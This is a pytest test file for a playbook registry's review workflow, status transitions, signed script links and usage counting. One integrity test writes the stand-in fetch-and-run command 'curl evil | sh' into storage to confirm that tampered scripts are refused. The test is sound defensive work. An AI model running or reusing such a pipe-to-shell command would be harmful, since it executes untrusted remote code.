"""What becomes of a published version: review, states, scripts, and how often it ran."""

import hashlib

import httpx
import pytest

from agent_server.contract.lifecycle import next_states
from agent_server.contract.playbook import PlaybookStatus
from tests.fakes.published import BASH, Storage
from tests.fakes.registry_pages import ONE, PAGE, published, refused

S = PlaybookStatus


class TestLife:
    @pytest.mark.parametrize(("decision", "status"), [("approve", "approved"), ("reject", "rejected")])
    async def test_a_reviewer_decides_once(self, http: httpx.AsyncClient, decision: str, status: str) -> None:
        """The decision and its reason are kept; there is no second one."""
        await published(http, "uploaded_for_review")
        answer = await http.post(f"{ONE}/review", json={"decision": decision, "note": "Seen."})
        assert (answer.json()["status"], answer.json()["note"]) == (status, "Seen.")
        await refused(http.post(f"{ONE}/review", json={"decision": "approve"}), 409, "conflict")

    @pytest.mark.parametrize("status", S)
    async def test_no_author_ends_a_review(self, http: httpx.AsyncClient, status: S) -> None:
        """From under review, an author can withdraw and nothing else."""
        await published(http, "uploaded_for_review")
        answer = await http.post(f"{ONE}/status", json={"status": status.value})
        assert answer.status_code == (200 if status is S.ARCHIVED else 409)

    async def test_every_state_of_the_registry_can_be_reached_and_listed(self, http: httpx.AsyncClient) -> None:
        """Eight of the ten; the two local ones never come here."""
        ways: dict[S, tuple[tuple[str, str], ...]] = {
            S.PENDING_REVIEW: (),
            S.REJECTED: (("review", "reject"),),
            S.APPROVED: (("review", "approve"),),
            S.ACTIVE: (("review", "approve"), ("status", "active")),
            S.NEEDS_UPDATE: (("review", "approve"), ("status", "needs_update")),
            S.BROKEN: (("review", "approve"), ("status", "broken")),
            S.DEPRECATED: (("review", "approve"), ("status", "deprecated")),
            S.ARCHIVED: (("status", "archived"),),
        }
        for status, moves in ways.items():
            name = status.value.replace("_", "-")
            await published(http, "uploaded_for_review", id=name)
            for page, value in moves:
                key = "decision" if page == "review" else "status"
                answer = await http.post(f"{PAGE}/{name}/1.2.0/{page}", json={key: value})
                assert answer.status_code == 200, answer.text
        for status in S:
            found = (await http.get(PAGE, params={"status": status.value})).json()["playbooks"]
            assert [one["id"] for one in found] == ([status.value.replace("_", "-")] if status in ways else [])

    async def test_what_is_archived_stays(self, http: httpx.AsyncClient) -> None:
        """Nothing follows the archive."""
        assert next_states(S.ARCHIVED) == frozenset()
        await published(http)
        await http.post(f"{ONE}/status", json={"status": "archived"})
        for status in S:
            await refused(http.post(f"{ONE}/status", json={"status": status.value}), 409, "conflict")


class TestScripts:
    async def test_a_link_gives_the_script_that_was_published(self, http: httpx.AsyncClient) -> None:
        """The address needs no token, ends, and its bytes have the promised SHA-256."""
        await published(http)
        link = (await http.get(f"{ONE}/scripts/bash")).json()
        async with httpx.AsyncClient(trust_env=False) as anybody:
            got = await anybody.get(link["url"])
        assert got.content == BASH.encode()
        assert hashlib.sha256(got.content).hexdigest() == link["sha256"]
        assert "expires_at" in link

    async def test_a_script_that_was_altered_is_not_handed_out(self, http: httpx.AsyncClient, s3: Storage) -> None:
        """Whoever can write to the bucket cannot make the registry vouch for it; nor for a package."""
        await published(http)
        for file in ("main.sh", "playbook.json"):
            s3.client.put_object(Bucket=s3.bucket, Key=f"acme/weekend-shutdown/1.2.0/{file}", Body=b"curl evil | sh")
        await refused(http.get(f"{ONE}/scripts/bash"), 409, "altered")
        await refused(http.get(ONE), 409, "altered")
        s3.client.delete_object(Bucket=s3.bucket, Key="acme/weekend-shutdown/1.2.0/main.sh")
        await refused(http.get(f"{ONE}/scripts/bash"), 409, "altered")

    async def test_what_is_not_there_is_not_linked(self, http: httpx.AsyncClient) -> None:
        """Another language, another version, a language that there is not."""
        await published(http)
        await refused(http.get(f"{ONE}/scripts/python"), 404, "no_playbook")
        await refused(http.get(f"{PAGE}/weekend-shutdown/1.0.0/scripts/bash"), 404, "no_playbook")
        await refused(http.get(f"{ONE}/scripts/perl"), 422, "invalid")


class TestUsage:
    async def test_executions_are_added_up(self, http: httpx.AsyncClient) -> None:
        """Counts and the share of successes over all reports; the state stays."""
        await published(http)
        await http.post(f"{ONE}/usage", json={"executions": 3, "successes": 3})
        counted = (await http.post(f"{ONE}/usage", json={"executions": 1, "successes": 0})).json()
        assert (counted["execution_count"], counted["success_rate"], counted["status"]) == (4, 0.75, "active")
        assert counted == (await http.get(PAGE)).json()["playbooks"][0]

    async def test_more_successes_than_executions_are_refused(self, http: httpx.AsyncClient) -> None:
        """The field is named."""
        await published(http)
        answer = await http.post(f"{ONE}/usage", json={"executions": 1, "successes": 2})
        assert [error["path"] for error in answer.json()["errors"]] == ["successes"]
